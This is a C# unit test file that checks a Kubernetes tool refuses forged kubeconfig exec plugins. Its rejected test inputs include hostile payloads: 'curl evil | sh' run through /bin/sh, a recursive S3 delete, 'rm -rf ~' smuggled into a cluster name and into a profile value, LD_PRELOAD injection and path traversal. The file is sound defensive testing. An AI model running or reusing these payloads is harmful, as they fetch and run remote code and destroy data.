using Ksctl.Core.Diagnostics;
using Ksctl.Core.Kube;
using Ksctl.Core.Model;
using Ksctl.Core.Providers.Aws.Eks;

namespace Ksctl.Aws.Tests;

/// <summary>
/// A kubeconfig in state is untrusted (a forged state must not make kubectl run a program): of exec plugins only the
/// two EKS token commands Ksctl writes pass, rebuilt from their checked cluster name and region; anything else is
/// refused with KsctlKubeconfigRefused before it is stored or merged.
/// </summary>
public sealed class EksKubeconfigTrustTests
{
    private static readonly ClusterId Id = new(CloudProvider.Aws, ClusterType.Managed, "shop", "us-east-1");

    private static string WithExec(string exec) => $"""
        apiVersion: v1
        kind: Config
        clusters:
        - name: c
          cluster:
            server: https://abc.gr7.us-east-1.eks.amazonaws.com
            certificate-authority-data: Q0E=
        users:
        - name: u
          user:
            exec:
        {exec}
        contexts:
        - name: c
          context: {"{"}cluster: c, user: u{"}"}
        current-context: c
        """;

    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    public void The_EKS_token_commands_Ksctl_writes_pass_and_are_kept(bool awsCli)
    {
        var yaml = EksKubeconfig.Build(Id, "https://abc.gr7.us-east-1.eks.amazonaws.com", "Q0E=", "ctx", awsCli);

        var normalized = KubeconfigFile.Normalize(yaml, "ctx");

        var exec = KubeconfigFile.Parse(normalized, "test").Users.Single().UserCredentials.ExternalExecution;
        Assert.Equal(awsCli ? "aws" : "ksctl", exec.Command);
        Assert.Contains("shop", exec.Arguments);
    }

    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    public void A_profile_goes_into_the_exec_env_as_AWS_PROFILE_and_is_kept(bool awsCli)
    {
        var yaml = EksKubeconfig.Build(Id, "https://abc.gr7.us-east-1.eks.amazonaws.com", "Q0E=", "ctx", awsCli, profile: "team-dev");

        var exec = KubeconfigFile.Parse(KubeconfigFile.Normalize(yaml, "ctx"), "test").Users.Single().UserCredentials.ExternalExecution;

        var env = Assert.Single(exec.EnvironmentVariables);
        Assert.Equal(("AWS_PROFILE", "team-dev"), (env["name"], env["value"]));
    }

    [Theory]
    [InlineData("      apiVersion: client.authentication.k8s.io/v1beta1\n      command: /bin/sh\n      args: [-c, 'curl evil | sh']")]
    [InlineData("      apiVersion: client.authentication.k8s.io/v1beta1\n      command: aws\n      args: [--region, us-east-1, s3, rm, s3://bucket, --recursive, --output, json]")]
    [InlineData("      apiVersion: client.authentication.k8s.io/v1beta1\n      command: ksctl\n      args: [token, --cluster-name, 'shop; rm -rf ~', --region, us-east-1]")]
    [InlineData("      apiVersion: client.authentication.k8s.io/v1beta1\n      command: ksctl\n      args: [token, --cluster-name, shop, --region, us-east-1]\n      env: [{name: LD_PRELOAD, value: /tmp/x.so}]")]
    [InlineData("      apiVersion: client.authentication.k8s.io/v1beta1\n      command: ksctl\n      args: [token, --cluster-name, shop, --region, '../../etc']")]
    [InlineData("      apiVersion: client.authentication.k8s.io/v1beta1\n      command: ksctl\n      args: [token, --cluster-name, shop, --region, us-east-1]\n      env: [{name: AWS_PROFILE, value: dev}, {name: LD_PRELOAD, value: /tmp/x.so}]")]
    [InlineData("      apiVersion: client.authentication.k8s.io/v1beta1\n      command: ksctl\n      args: [token, --cluster-name, shop, --region, us-east-1]\n      env: [{name: AWS_PROFILE, value: '-x; rm -rf ~'}]")]
    [InlineData("      apiVersion: client.authentication.k8s.io/v1beta1\n      command: aws\n      args: [--region, us-east-1, eks, get-token, --cluster-name, shop, --output, json]\n      env: [{name: AWS_CONFIG_FILE, value: /tmp/evil}]")]
    [InlineData("      apiVersion: client.authentication.k8s.io/v1alpha1\n      command: ksctl\n      args: [token, --cluster-name, shop, --region, us-east-1]")]
    public void Any_other_exec_is_refused(string exec)
    {
        var e = Assert.Throws<KsctlException>(() => KubeconfigFile.Normalize(WithExec(exec), "ctx"));
        Assert.Equal("KsctlKubeconfigRefused", e.ErrorId);
        Assert.Contains("exec", e.Message);
    }
}
